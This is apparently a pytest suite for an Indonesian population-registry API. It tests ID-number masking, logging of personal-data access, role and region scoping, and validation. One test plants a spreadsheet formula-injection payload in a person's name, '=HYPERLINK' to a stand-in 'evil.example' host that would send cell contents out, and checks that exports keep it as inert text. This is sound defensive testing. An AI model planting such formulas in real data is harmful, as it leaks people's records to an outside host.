"""Registry API v1: scoped reads with NIK masking and UU PDP logging, writes through the services."""

from __future__ import annotations

import pytest

from presisi.accounts.services import pengguna_create
from presisi.core.models import AuditLog
from presisi.regions.services import wilayah_load_csv
from presisi.registry.models import MATI, Bangunan, Individu, Keluarga, Peristiwa, RumahTangga
from presisi.registry.services import individu_create, keluarga_create
from tests.conftest import masuk

pytestmark = pytest.mark.django_db
DESA, BANJAR = "51.05.01.2001", "51.05.01.2001.001"
API = "/api/v1"


@pytest.fixture
def users(wilayah_klungkung, kamus):
    wilayah_load_csv(data="kode,nama,tingkat,kode_induk\n"
                          f"{BANJAR},Banjar Dinas Kaja,banjar,{DESA}\n"
                          "51.05.01.2002.001,Banjar Dinas Kelod,banjar,51.05.01.2002\n")
    plan = {"operator": ("operator_desa", DESA), "operator_lain": ("operator_desa", "51.05.01.2002"),
            "verifikator": ("verifikator_kecamatan", "51.05.01"), "analis": ("analis", "51.05"),
            "admin": ("admin", "51.05")}
    return {name: pengguna_create(username=name, password="rahasia-panjang", peran=peran, wilayah_kode=kode)
            for name, (peran, kode) in plan.items()}


@pytest.fixture
def op(client, users):
    masuk(client, users["operator"])
    return client


HEAD = {"nik": "5105011203800001", "nama": "I Wayan Sudarma", "jenis_kelamin": 1, "tanggal_lahir": "1980-03-12",
        "hubungan_keluarga": 1, "agama": 4, "pekerjaan": 9}


@pytest.fixture
def keluarga(users):
    kk = keluarga_create(no_kk="5105010203150001", banjar_kode=BANJAR, alamat="Jl. Pura Dalem 1")
    individu_create(keluarga=kk, data=HEAD)
    return kk


def pdp_rows():
    return list(AuditLog.objects.filter(aksi__startswith="pdp.").order_by("id"))


def test_lists_and_details_mask_nik_and_log_every_read(op, keluarga, users):
    people = op.get(f"{API}/desa/{DESA}/individu/").json()
    assert people["count"] == 1 and people["results"][0]["nik"] == "510501******0001"
    full = op.get(f"{API}/desa/{DESA}/individu/?nik=penuh").json()
    assert full["results"][0]["nik"] == "5105011203800001"
    families = op.get(f"{API}/desa/{DESA}/keluarga/?q=wayan").json()
    assert families["results"][0]["kepala"] == "I Wayan Sudarma" and families["results"][0]["jumlah_anggota"] == 1
    pk = people["results"][0]["id"]
    assert op.get(f"{API}/individu/{pk}/").json()["nik"] == "510501******0001"
    detail = op.get(f"{API}/keluarga/{keluarga.pk}/").json()
    # the KK number goes through the same door as the NIK: masked unless asked for (then logged)
    assert detail["no_kk"] == "510501******0001" and detail["anggota"][0]["nama"] == "I Wayan Sudarma"
    assert detail["anggota"][0]["keluarga"] == "510501******0001"
    assert op.get(f"{API}/keluarga/{keluarga.pk}/?nik=penuh").json()["no_kk"] == keluarga.no_kk
    rows = pdp_rows()
    assert [(r.aksi, r.objek_tipe, r.sesudah["nik_penuh"]) for r in rows] == [
        ("pdp.ekspor", "registry.individu", False), ("pdp.ekspor", "registry.individu", True),
        ("pdp.ekspor", "registry.keluarga", False), ("pdp.lihat", "registry.individu", False),
        ("pdp.lihat", "registry.individu", False), ("pdp.lihat", "registry.individu", True)]
    assert all(r.pengguna == users["operator"] and r.sesudah["kanal"] == "api" for r in rows)


def test_create_family_person_household_and_building(op, users):
    response = op.post(f"{API}/desa/{DESA}/keluarga/", {"no_kk": "5105010203150001", "banjar": BANJAR,
                                                        "atribut": {"tahapan_keluarga_sejahtera": 2}},
                       content_type="application/json")
    assert response.status_code == 201, response.json()
    kk = Keluarga.objects.get()
    response = op.post(f"{API}/keluarga/{kk.pk}/anggota/", {**HEAD, "jaminan_kesehatan": 2},
                       content_type="application/json")
    assert response.status_code == 201 and response.json()["atribut"] == {"jaminan_kesehatan": 2}
    response = op.post(f"{API}/desa/{DESA}/bangunan/", {"kode": "B-1", "banjar": BANJAR, "lat": -8.7, "lng": 115.5,
                                                        "atribut": {"penggunaan_bangunan": 1}},
                       content_type="application/json")
    assert response.status_code == 201
    response = op.post(f"{API}/desa/{DESA}/rumah-tangga/", {"kode": "RT-1", "banjar": BANJAR, "bangunan": "B-1",
                                                            "atribut": {"sumber_air_minum": 3}},
                       content_type="application/json")
    assert response.status_code == 201 and response.json()["bangunan"] == "B-1"
    assert RumahTangga.objects.get().bangunan == Bangunan.objects.get()
    assert op.get(f"{API}/desa/{DESA}/rumah-tangga/").json()["count"] == 1
    # a banjar of another desa is refused even when the URL's desa is in scope
    response = op.post(f"{API}/desa/{DESA}/bangunan/", {"kode": "B-2", "banjar": "51.05.01.2002.001"},
                       content_type="application/json")
    assert response.status_code == 400 and response.json()["temuan"][0]["rule"] == "banjar_lain_desa"


def test_patch_person_and_validation_errors_write_nothing(op, keluarga):
    pk = keluarga.anggota.get().pk
    response = op.patch(f"{API}/individu/{pk}/", {"pekerjaan": 11}, content_type="application/json")
    assert response.status_code == 200 and response.json()["pekerjaan"] == 11
    log = AuditLog.objects.get(aksi="registry.individu.diubah")
    assert (log.sebelum["pekerjaan"], log.sesudah["pekerjaan"]) == (9, 11)
    response = op.patch(f"{API}/individu/{pk}/", {"agama": 8, "warna_favorit": 1}, content_type="application/json")
    body = response.json()
    assert response.status_code == 400
    assert {(f["column"], f["rule"]) for f in body["temuan"]} == {("agama", "klasifikasi"),
                                                                   ("warna_favorit", "variabel_tidak_dikenal")}
    assert Individu.objects.get(pk=pk).agama == 4
    assert op.patch(f"{API}/individu/{pk}/", [1, 2], content_type="application/json").status_code == 400
    response = op.patch(f"{API}/keluarga/{keluarga.pk}/", {"alamat": "Jl. Baru"}, content_type="application/json")
    assert response.status_code == 200 and response.json()["alamat"] == "Jl. Baru"


def test_events_through_the_api(op, keluarga):
    kk = keluarga.pk
    response = op.post(f"{API}/keluarga/{kk}/peristiwa/", {"jenis": "lahir", "individu": {
        "nik": "5105014501250001", "nama": "Ni Putu Ayu", "jenis_kelamin": 2, "tanggal_lahir": "2025-01-05",
        "hubungan_keluarga": 4}}, content_type="application/json")
    assert response.status_code == 201, response.json()
    response = op.post(f"{API}/keluarga/{kk}/peristiwa/", {"jenis": "datang", "tanggal": "2025-06-01",
                                                           "asal": "Denpasar", "individu": {
        "nik": "5105010107900001", "nama": "I Made Datang", "jenis_kelamin": 1, "tanggal_lahir": "1990-07-01",
        "hubungan_keluarga": 9}}, content_type="application/json")
    assert response.status_code == 201
    head = Individu.objects.get(nama="I Wayan Sudarma")
    response = op.post(f"{API}/individu/{head.pk}/peristiwa/", {"jenis": "mati", "tanggal": "2026-01-05"},
                       content_type="application/json")
    assert response.status_code == 201 and response.json()["jenis_label"] == "Mati"
    head.refresh_from_db()
    assert head.status_dasar == MATI
    response = op.post(f"{API}/individu/{head.pk}/peristiwa/", {"jenis": "pergi", "tanggal": "2026-01-06"},
                       content_type="application/json")
    assert response.status_code == 400 and response.json()["temuan"][0]["rule"] == "status_dasar"
    assert sorted(Peristiwa.objects.values_list("jenis", flat=True)) == [1, 2, 5]
    history = op.get(f"{API}/individu/{head.pk}/riwayat/").json()
    assert history["peristiwa"][0]["jenis_label"] == "Mati"
    change = next(e for e in history["entri"] if e["aksi"] == "registry.peristiwa.dicatat")
    assert {"kode": "status_dasar", "label": "Status dasar penduduk", "sebelum": "Hidup",
            "sesudah": "Mati"} in change["perubahan"]
    family = op.get(f"{API}/keluarga/{kk}/riwayat/").json()
    assert len(family["peristiwa"]) == 3


def test_scope_roles_and_no_delete(client, keluarga, users):
    pk = keluarga.anggota.get().pk
    urls = [f"{API}/desa/{DESA}/individu/", f"{API}/individu/{pk}/", f"{API}/keluarga/{keluarga.pk}/",
            f"{API}/individu/{pk}/riwayat/"]
    for url in urls:
        assert client.get(url).status_code == 403  # anonymous
    for name, code in (("operator_lain", 404), ("analis", 403)):  # foreign: like unknown (no IDOR)
        masuk(client, users[name])
        for url in urls:
            assert client.get(url).status_code == code, (name, url)
    masuk(client, users["verifikator"])
    assert client.get(urls[1]).status_code == 200
    assert client.patch(urls[1], {"nama": "X"}, content_type="application/json").status_code == 403
    masuk(client, users["operator"])
    for url in urls[1:3]:
        assert client.delete(url).status_code == 405
    assert Individu.objects.get(pk=pk).nama == "I Wayan Sudarma"
    assert not AuditLog.objects.filter(aksi__startswith="pdp.", pengguna=users["analis"]).exists()


def test_processing_log_api_is_for_admins(client, keluarga, users):
    pk = keluarga.anggota.get().pk
    masuk(client, users["operator"])
    client.get(f"{API}/individu/{pk}/?nik=penuh")
    assert client.get(f"{API}/pdp/log/").status_code == 403
    masuk(client, users["admin"])
    rows = client.get(f"{API}/pdp/log/?pengguna=operator").json()
    assert [(r["pengguna"], r["aksi"], r["ids"], r["nik_penuh"]) for r in rows] == [("operator", "lihat", str(pk),
                                                                                      True)]
    assert "/api/v1/individu/{id}/peristiwa/" in client.get("/api/schema/?format=json").json()["paths"]


def test_api_writes_are_refused_while_the_desa_is_submitted_and_allowed_after_return(op, keluarga):
    import datetime as dt

    from presisi.periods.locking import kunci_catat
    from presisi.periods.models import Periode

    periode = Periode.objects.create(kode="2026-S2", tanggal_mulai=dt.date(2026, 7, 1),
                                     tanggal_referensi=dt.date(2026, 12, 31))
    kunci_catat(periode=periode, desa=keluarga.desa, tingkat="diperiksa", status="diajukan",
                keterangan="Diajukan desa")
    response = op.patch(f"{API}/keluarga/{keluarga.pk}/", {"alamat": "Jl. Baru"}, content_type="application/json")
    assert response.status_code == 409
    body = response.json()
    assert "sudah diajukan dan sedang diperiksa" in body["pesan"] and body["temuan"][0]["rule"] == "data_terkunci"
    assert body["tingkat"] == "diperiksa"
    kunci_catat(periode=periode, desa=keluarga.desa, tingkat="terbuka", status="dikembalikan")
    response = op.patch(f"{API}/keluarga/{keluarga.pk}/", {"alamat": "Jl. Baru"}, content_type="application/json")
    assert response.status_code == 200
def test_api_refuses_a_foreign_nik_and_takes_an_identity_correction_with_a_reason(op, keluarga):
    response = op.post(f"{API}/keluarga/{keluarga.pk}/anggota/",
                       {**HEAD, "nama": "Ni Luh Putu Ayu", "jenis_kelamin": 2, "hubungan_keluarga": 3},
                       content_type="application/json")
    assert response.status_code == 400
    body = response.content.decode()
    assert "nik_orang_lain" in body and "I Wayan Sudarma" in body and "5105011203800001" not in body
    pk = keluarga.anggota.get().pk
    response = op.patch(f"{API}/individu/{pk}/", {"nama": "I Ketut Oka"}, content_type="application/json")
    assert response.status_code == 400 and "koreksi_identitas_wajib" in response.content.decode()
    response = op.patch(f"{API}/individu/{pk}/", {"nama": "I Ketut Oka", "koreksi_identitas": True,
                                                  "alasan_koreksi": "sesuai KTP-el"}, content_type="application/json")
    assert response.status_code == 200 and response.json()["nama"] == "I Ketut Oka"
    assert AuditLog.objects.filter(aksi="registry.individu.koreksi_identitas", objek_id=str(pk)).exists()


def test_formula_in_a_name_reaches_the_workbook_as_inert_text(op, keluarga):
    """PATCH a name that is a spreadsheet formula: penduduk.xlsx holds it as text, never a formula."""
    import io

    from openpyxl import load_workbook

    attack = '=HYPERLINK("https://evil.example/?d="&A2,"Klik")'
    pk = keluarga.anggota.get().pk
    response = op.patch(f"{API}/individu/{pk}/", {"nama": attack, "koreksi_identitas": True,
                                                  "alasan_koreksi": "uji rumus"}, content_type="application/json")
    assert response.status_code == 200, response.content[:500]
    assert Individu.objects.get(pk=pk).nama == attack
    book = load_workbook(io.BytesIO(op.get(f"/registri/desa/{DESA}/penduduk.xlsx").content))
    cells = [c for row in book.active.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert any(c.value == attack and c.data_type == "s" for c in cells)


def test_a_2mb_value_is_never_echoed_back_by_the_api(op, keluarga):
    big = "=" + "A" * 2_000_000
    pk = keluarga.anggota.get().pk
    for field in ("nama", "agama", "jenis_kelamin", "tanggal_lahir", "pekerjaan", "warna_favorit"):
        response = op.patch(f"{API}/individu/{pk}/", {field: big}, content_type="application/json")
        assert response.status_code == 400, (field, response.status_code)
        assert len(response.content) < 5_000, (field, response.content[:300])
    response = op.post(f"{API}/keluarga/{keluarga.pk}/anggota/", {**HEAD, "nik": big, "hubungan_keluarga": big},
                       content_type="application/json")
    assert response.status_code == 400 and len(response.content) < 5_000, response.content[:300]
    # DRF's own message quotes the refused choice ('"…" is not a valid choice.')
    response = op.post(f"{API}/keluarga/{keluarga.pk}/peristiwa/", {"jenis": big, "individu": {}},
                       content_type="application/json")
    assert response.status_code == 400 and len(response.content) < 5_000, response.content[:300]
    assert big[:100] + "…" in response.json()["temuan"][0]["message"]
